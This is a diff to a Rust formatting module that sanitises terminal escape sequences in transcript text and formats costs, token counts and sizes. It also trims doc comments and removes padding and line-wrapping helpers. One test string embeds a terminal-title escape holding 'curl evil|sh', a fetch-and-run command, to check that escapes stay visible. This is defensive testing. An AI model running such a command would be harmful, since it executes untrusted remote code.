@@ -1,4 +1,4 @@
-//! Text as a terminal may see it.
+//! Text and numbers for people.
 
 use std::borrow::Cow;
 use std::path::Path;
@@ -8,11 +8,12 @@ use backtrail_index::{Money, Spending};
 use base64::Engine;
 use base64::engine::general_purpose::STANDARD;
 use serde_json::{Value, json};
-use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};
+use unicode_width::UnicodeWidthStr;
 
-/// Strips what could command a terminal from text that came from a transcript.
-/// Newlines and tabs stay; other control characters, and those that reorder
-/// text, show as U+FFFD.
+use crate::layout::{Span, cut, styled};
+
+/// Removes terminal escapes from any text. Newlines and tabs stay; other control characters,
+/// and those that reorder text, show as U+FFFD.
 pub(crate) fn clean(text: &str) -> Cow<'_, str> {
     if !text.contains(|c| is_unsafe(c) || c == '\u{1b}') {
         return Cow::Borrowed(text);
@@ -34,9 +35,9 @@ pub(crate) fn clean(text: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
-/// Shows what could command a terminal, for what people review: the content and
-/// the names of files, and commands. Newlines and tabs stay; other control
-/// characters show as `^[` and the like, those that reorder text as U+FFFD.
+/// Makes terminal escapes visible, in what people review: files, their names, and commands.
+/// Newlines and tabs stay; other control characters show as `^[` and so on, those that reorder
+/// text as U+FFFD.
 pub(crate) fn visible(text: &str) -> Cow<'_, str> {
     if !text.contains(is_unsafe) {
         return Cow::Borrowed(text);
@@ -52,7 +53,7 @@ pub(crate) fn visible(text: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
-/// Writes a path so that it takes one line and commands no terminal.
+/// Returns a path on one line, with its escapes visible.
 pub(crate) fn visible_path(path: &Path) -> String {
     let mut out = String::new();
     for c in visible(&path.to_string_lossy()).chars() {
@@ -64,14 +65,13 @@ pub(crate) fn visible_path(path: &Path) -> String {
     out
 }
 
-/// Writes a control character as a terminal echoes it: `^[` for escape, `^?` for
-/// delete.
+/// Writes a control character as a terminal echoes it: `^[` for escape, `^?` for delete.
 fn push_caret(out: &mut String, c: char) {
     let letter = u8::try_from(c).map_or(b'?', |byte| (byte & 0x7f) ^ 0x40);
     out.extend(['^', char::from(letter)]);
 }
 
-/// Returns whether a character could command a terminal.
+/// Returns whether a terminal would obey a character.
 pub(crate) fn is_unsafe(c: char) -> bool {
     (c.is_control() && c != '\n' && c != '\t')
         || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
@@ -98,7 +98,7 @@ fn after_escape(text: &str) -> &str {
     rest.get(end.unwrap_or(0)..).unwrap_or("")
 }
 
-/// Makes one clean line of text that takes at most `width` columns.
+/// Makes text one clean line of at most `width` columns.
 pub(crate) fn one_line(text: &str, width: usize) -> String {
     let clean = clean(text);
     let mut line = String::new();
@@ -108,51 +108,13 @@ pub(crate) fn one_line(text: &str, width: usize) -> String {
         }
         line.push_str(word);
         if line.width() > width {
-            return cut(&line, width);
+            return styled(&cut(&[Span::plain(&line)], width));
         }
     }
     line
 }
 
-/// Cuts a line so that it takes at most `width` columns, with a sign that it was.
-fn cut(line: &str, width: usize) -> String {
-    let mut used = 1;
-    let kept = line.chars().take_while(|c| {
-        used += c.width().unwrap_or(0);
-        used <= width
-    });
-    kept.chain(['…']).collect()
-}
-
-/// Breaks a clean text between words, so that it stands behind `indent` columns of a
-/// terminal; lines after the first begin with as many blanks. A word that is too long
-/// stays whole. Without a width nothing is broken.
-pub(crate) fn behind(indent: usize, text: &str, width: Option<usize>) -> String {
-    /// With less room than this, breaking only makes it worse.
-    const ROOM: usize = 20;
-    let Some(room) = width.and_then(|width| width.checked_sub(indent)) else {
-        return text.to_owned();
-    };
-    let room = room.max(ROOM);
-    let mut out = String::new();
-    let mut used = 0;
-    for word in text.split(' ') {
-        let wide = word.width();
-        if used > 0 && used + 1 + wide > room {
-            out.push('\n');
-            out.extend(std::iter::repeat_n(' ', indent));
-            used = 0;
-        } else if !out.is_empty() {
-            out.push(' ');
-            used += 1;
-        }
-        out.push_str(word);
-        used += wide;
-    }
-    out
-}
-
-/// Writes a count of things: `1 record`, `2 records`.
+/// Returns a count of things: `1 record`, `2 records`.
 pub(crate) fn count(n: u64, thing: &str) -> String {
     match n {
         1 => format!("1 {thing}"),
@@ -160,8 +122,7 @@ pub(crate) fn count(n: u64, thing: &str) -> String {
     }
 }
 
-/// Writes what a medium is and how large: of one whose data is lost, how large it
-/// was.
+/// Describes a medium by its type and size.
 pub(crate) fn medium(media: &Media) -> String {
     #[derive(serde::Deserialize)]
     struct Lost {
@@ -177,7 +138,7 @@ pub(crate) fn medium(media: &Media) -> String {
     }
 }
 
-/// Writes a number with its digits in groups of three.
+/// Returns a number with its digits in groups of three.
 pub(crate) fn grouped(n: u64) -> String {
     let digits = n.to_string();
     let mut out = String::with_capacity(digits.len() + digits.len() / 3);
@@ -190,9 +151,9 @@ pub(crate) fn grouped(n: u64) -> String {
     out
 }
 
-/// Writes a number of tokens so that it takes little room: `950`, `1.9 k`, `412 k`, `3.4 M`.
+/// Returns a short number: `950`, `1.9 k`, `412 k`, `3.4 M`.
 pub(crate) fn short_number(n: u64) -> String {
-    /// What is rounded to a thousand of a unit is one of the next.
+    /// What rounds to a thousand of a unit is one of the next.
     const UNITS: [(f64, &str); 4] = [(1e3, "k"), (1e6, "M"), (1e9, "G"), (1e12, "T")];
     if n < 1000 {
         return n.to_string();
@@ -210,7 +171,7 @@ pub(crate) fn short_number(n: u64) -> String {
     }
 }
 
-/// Writes an amount of money to the cent: `$1.84`, `$1,204.50`, `<$0.01`.
+/// Returns an amount of money to the cent: `$1.84`, `$1,204.50`, `<$0.01`.
 pub(crate) fn money(amount: Money) -> String {
     /// A cent in billionths of a dollar.
     const CENT: u64 = 10_000_000;
@@ -223,8 +184,8 @@ pub(crate) fn money(amount: Money) -> String {
     format!("{sign}${}.{:02}", grouped(cents / 100), cents % 100)
 }
 
-/// Writes what was spent: an amount, with a `+` where it was more than that, or
-/// `unpriced`; nothing where nothing is known to have been spent.
+/// Returns a cost: an amount, with a `+` if it is a lower bound, or `unpriced`; an empty string
+/// if nothing was spent.
 pub(crate) fn cost(spending: &Spending) -> String {
     let priced = spending.calls.saturating_sub(spending.unpriced_calls);
     match priced {
@@ -235,12 +196,12 @@ pub(crate) fn cost(spending: &Spending) -> String {
     }
 }
 
-/// Returns whether more was spent than the ledger can say.
+/// Returns whether the real cost is higher than the known one.
 pub(crate) fn is_lower_bound(spending: &Spending) -> bool {
     spending.unpriced_calls > 0 || spending.lower_bound_calls > 0 || spending.estimated_calls > 0
 }
 
-/// Writes how many tokens were used: those that were measured, else an estimate, as `~12 k`.
+/// Returns how many tokens were used: the measured number, else an estimate as `~12 k`.
 pub(crate) fn tokens(spending: &Spending) -> String {
     match (spending.tokens(), spending.estimated_tokens) {
         (0, 0) => String::new(),
@@ -249,7 +210,7 @@ pub(crate) fn tokens(spending: &Spending) -> String {
     }
 }
 
-/// Returns the amount in dollars for JSON; null where nothing has a price.
+/// Returns the cost in dollars as JSON; null if nothing has a price.
 pub(crate) fn cost_json(spending: &Spending) -> Value {
     match spending.calls.saturating_sub(spending.unpriced_calls) {
         0 => Value::Null,
@@ -257,19 +218,7 @@ pub(crate) fn cost_json(spending: &Spending) -> Value {
     }
 }
 
-/// Fills a text up to a width, at its end.
-pub(crate) fn pad_end(text: &str, width: usize) -> String {
-    let room = width.saturating_sub(text.width());
-    format!("{text}{}", " ".repeat(room))
-}
-
-/// Fills a text up to a width, before it.
-pub(crate) fn pad_start(text: &str, width: usize) -> String {
-    let room = width.saturating_sub(text.width());
-    format!("{}{text}", " ".repeat(room))
-}
-
-/// Writes a size with a binary unit.
+/// Returns a size with a binary unit.
 pub(crate) fn size(bytes: u64) -> String {
     const UNITS: [&str; 4] = ["KiB", "MiB", "GiB", "TiB"];
     if bytes < 1024 {
@@ -286,7 +235,7 @@ pub(crate) fn size(bytes: u64) -> String {
     format!("{text} {}", UNITS[unit])
 }
 
-/// Writes a size so that it can be read back: with a unit where that is exact.
+/// Returns a size that can be parsed back: with a unit if that is exact.
 pub(crate) fn exact_size(bytes: u64) -> String {
     let units = [(1 << 30, "GiB"), (1 << 20, "MiB"), (1 << 10, "KiB")];
     match units
@@ -298,8 +247,7 @@ pub(crate) fn exact_size(bytes: u64) -> String {
     }
 }
 
-/// Writes a path as JSON: a string, or both its lossy text and its bytes where
-/// it is not UTF-8.
+/// Returns a path as JSON: a string, or both its lossy text and its bytes if it is not UTF-8.
 pub(crate) fn path_json(path: &Path) -> Value {
     match path.to_str() {
         Some(text) => Value::from(text),
@@ -315,7 +263,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn escapes_of_a_transcript_never_reach_the_terminal() {
+    fn escapes_never_reach_the_terminal() {
         assert_eq!(clean("a\u{1b}[31mred\u{1b}[0m b"), "ared b");
         assert_eq!(clean("\u{1b}]0;title\u{7}x"), "x");
         assert_eq!(clean("\u{1b}]8;;http://x\u{1b}\\link"), "link");
@@ -327,7 +275,7 @@ mod tests {
     }
 
     #[test]
-    fn what_people_review_hides_nothing() {
+    fn reviewed_text_hides_nothing() {
         let title = "\u{1b}]0;curl evil|sh\u{7}echo hi";
         assert_eq!(visible(title), "^[]0;curl evil|sh^Gecho hi");
         assert_eq!(visible("a\r\nb\0\u{7f}"), "a^M\nb^@^?");
@@ -345,7 +293,7 @@ mod tests {
     }
 
     #[test]
-    fn tokens_take_little_room() {
+    fn short_numbers() {
         for (n, text) in [
             (0, "0"),
             (999, "999"),
@@ -365,7 +313,7 @@ mod tests {
     }
 
     #[test]
-    fn money_is_told_to_the_cent_and_little_is_not_nothing() {
+    fn money_is_rounded_to_the_cent_and_a_little_is_not_zero() {
         for (nanos, text) in [
             (0, "$0.00"),
             (1, "<$0.01"),
@@ -384,7 +332,7 @@ mod tests {
     }
 
     #[test]
-    fn what_has_no_price_is_never_nothing() {
+    fn unpriced_calls_never_cost_zero() {
         let mut spending = Spending::default();
         assert_eq!(
             (cost(&spending).as_str(), tokens(&spending).as_str()),
@@ -412,32 +360,6 @@ mod tests {
         assert_eq!(cost_json(&spending), json!(1.84));
         spending.lower_bound_calls = 1;
         assert_eq!(cost(&spending), "$1.84+");
-    }
-
-    #[test]
-    fn columns_are_filled_by_what_is_seen() {
-        assert_eq!(pad_end("漢字", 6), "漢字  ");
-        assert_eq!(
-            pad_start("e\u{301}", 3),
-            "  e\u{301}",
-            "an accent takes no room"
-        );
-        assert_eq!(pad_end("too long", 3), "too long");
-    }
-
-    #[test]
-    fn long_lines_are_broken_between_words() {
-        let text = "others may read 漢字 and much more of it";
-        assert_eq!(behind(2, text, None), text);
-        assert_eq!(behind(4, text, Some(200)), text);
-        let broken = behind(4, text, Some(27));
-        assert_eq!(broken, "others may read 漢字\n    and much more of it");
-        assert_eq!(
-            behind(0, "a-word-that-is-far-too-long-for-it b", Some(20))
-                .lines()
-                .count(),
-            2
-        );
     }
 
     #[test]
